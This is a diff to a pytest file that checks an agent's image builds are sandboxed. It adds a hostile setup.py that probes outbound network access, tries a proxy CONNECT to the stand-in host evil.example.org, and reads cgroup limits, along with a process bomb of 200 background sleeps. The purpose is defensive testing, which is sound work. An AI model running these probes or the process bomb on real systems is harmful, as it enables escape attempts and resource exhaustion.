@@ -1,8 +1,10 @@
 """Images: built once, shared, recorded, bounded, and closed to what they must not see."""
 
 import os
+import threading
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 from uuid import uuid4
@@ -11,8 +13,11 @@ import pytest
 
 from sweagent.config import Settings
 from sweagent.environment import Image, discover, disk_use, ensure_image, list_images, lockfile, prune
+from sweagent.environment import build_network as build_network_module
 from sweagent.environment import builder as builder_module
+from sweagent.environment import engine as engine_module
 from sweagent.environment.build import ensure_locked
+from sweagent.environment.build_network import build_memory
 from sweagent.environment.engine import connect
 from sweagent.environment.host_image import host_base
 from sweagent.environment.show import as_text
@@ -265,25 +270,88 @@ def reached(host, port):
         return not socket.create_connection((host, port), 2).close()
     except OSError:
         return False
-gateway = os.environ["http_proxy"].split("//")[1].split(":")[0]
-raise SystemExit("FOUND %s OUT %s" % (found, reached("1.1.1.1", 443) or reached("8.8.8.8", 53)))
+out = reached("1.1.1.1", 443) or reached("8.8.8.8", 53)
+gateways = {"172.17.0.1", os.environ["http_proxy"].split("//")[1].split(":")[0]}
+interfaces = sorted(os.listdir("/sys/class/net"))
+host = [place for place in sorted(gateways | set("ADDRESSES".split())) if reached(place, PORT)]
+try:
+    address = os.environ["http_proxy"].split("//")[1].split(":")
+    with socket.create_connection((address[0], int(address[1])), 5) as proxy:
+        proxy.sendall(b"CONNECT evil.example.org:443 HTTP/1.1\\r\\n\\r\\n")
+        answer = proxy.recv(100).split()[1].decode()
+except OSError as error:
+    answer = str(error)
+def first(*names):
+    for name in names:
+        try:
+            return open("/sys/fs/cgroup/" + name).read().strip()
+        except OSError:
+            pass
+memory = first("memory/memory.limit_in_bytes", "memory.max")
+raise SystemExit("FOUND %s OUT %s HOST %s PROXY %s NET %s MEMORY %s" % (found, out, host, answer, interfaces, memory))
 """
 
 
+@pytest.fixture
+def service() -> Iterator[int]:
+    """A service of this machine that listens on all of its addresses."""
+    server = ThreadingHTTPServer(("0.0.0.0", 0), BaseHTTPRequestHandler)
+    threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True).start()
+    yield server.server_address[1]
+    server.shutdown()
+    server.server_close()
+
+
 def test_a_hostile_setup_sees_no_secret_and_reaches_nothing(
-    git_repository, ensure: Ensure, client, monkeypatch, tmp_path
+    git_repository, client, monkeypatch, tmp_path, service: int
 ) -> None:
     for name in ("OPENAI_API_KEY", "GITHUB_TOKEN", "PIP_PASSWORD"):
         monkeypatch.setenv(name, "CANARY")
     base = host_base(client, lambda line: None)
     said = f"environment:\n  base: {base}\n  system: []\n  tools: []\n  requirements: []\n  optional: []\n"
     said += "  install: ['python setup.py']\n"
-    folder = git_repository({"setup.py": HOSTILE, "thing.py": "", ".fix-issue.yaml": said})
+    gateways = {
+        part["Gateway"]
+        for network in client.networks.list(greedy=True)
+        for part in network.attrs["IPAM"]["Config"] or ()
+        if "Gateway" in part
+    }
+    hostile = HOSTILE.replace("PORT", str(service)).replace("ADDRESSES", " ".join(gateways))
+    folder = git_repository({"setup.py": hostile, "thing.py": "", ".fix-issue.yaml": said})
     repository = open_repository(str(folder))
     recipe = discover(repository.git_dir, repository.base_commit, name="acme/hostile")
     recipe = recipe.model_copy(update={"toolchain": recipe.toolchain.model_copy(update={"alternatives": ()})})
+    told: list[str] = []
     with pytest.raises(EnvironmentBuildError) as caught:
-        ensure_image(recipe, repository, Settings(), log=lambda line: None)
-    assert "FOUND [] OUT False" in str(caught.value)
+        ensure_image(recipe, repository, Settings(), log=told.append)
+    assert "FOUND [] OUT False HOST [] PROXY 403 NET ['lo'" in str(caught.value)
+    assert f"MEMORY {build_memory(Settings().sandbox) // 4096 * 4096}" in str(caught.value)
+    assert "refused evil.example.org (1 requests)" in told
     assert os.environ["GITHUB_TOKEN"] == "CANARY"
     assert not (tmp_path / "ran").exists()
+    assert client.containers.list(all=True, filters={"name": "fix-issue-relay-"}) == []
+
+
+def test_a_step_that_starts_processes_without_end_is_bounded(
+    git_repository, ensure: Ensure, client, monkeypatch
+) -> None:
+    if str(client.info().get("CgroupVersion", "1")) != "1" or client.info().get("CgroupDriver") != "cgroupfs":
+        pytest.skip("this engine nests no control groups: it is said in the log, and memory bounds them")
+    monkeypatch.setattr(build_network_module, "BUILD_PIDS", 100)
+    bomb = "n=0; while [ $n -lt 200 ]; do sleep 60 & n=$((n + 1)); done; echo started all"
+    said = f"environment:\n  base: host\n  finish: ['{bomb}']\n"
+    with pytest.raises(EnvironmentBuildError) as caught:
+        ensure(git_repository(FILES | {".fix-issue.yaml": said}))
+    assert "fork" in str(caught.value)
+    assert "started all\n" not in str(caught.value)
+
+
+def test_a_step_without_end_is_ended_at_its_limit(git_repository, ensure: Ensure, client, monkeypatch) -> None:
+    monkeypatch.setattr(engine_module, "BUILD_SECONDS", 20.0)
+    mark = f"endless-{uuid4().hex}"
+    said = f"environment:\n  base: host\n  finish: ['echo {mark}; exec sleep 4000']\n"
+    with pytest.raises(EnvironmentBuildError, match="ended at its limit of 20 s"):
+        ensure(git_repository(FILES | {".fix-issue.yaml": said}))
+    left = [item for item in client.containers.list() if mark in str(item.attrs["Config"]["Cmd"])]
+    for container in left:
+        container.wait(timeout=60)
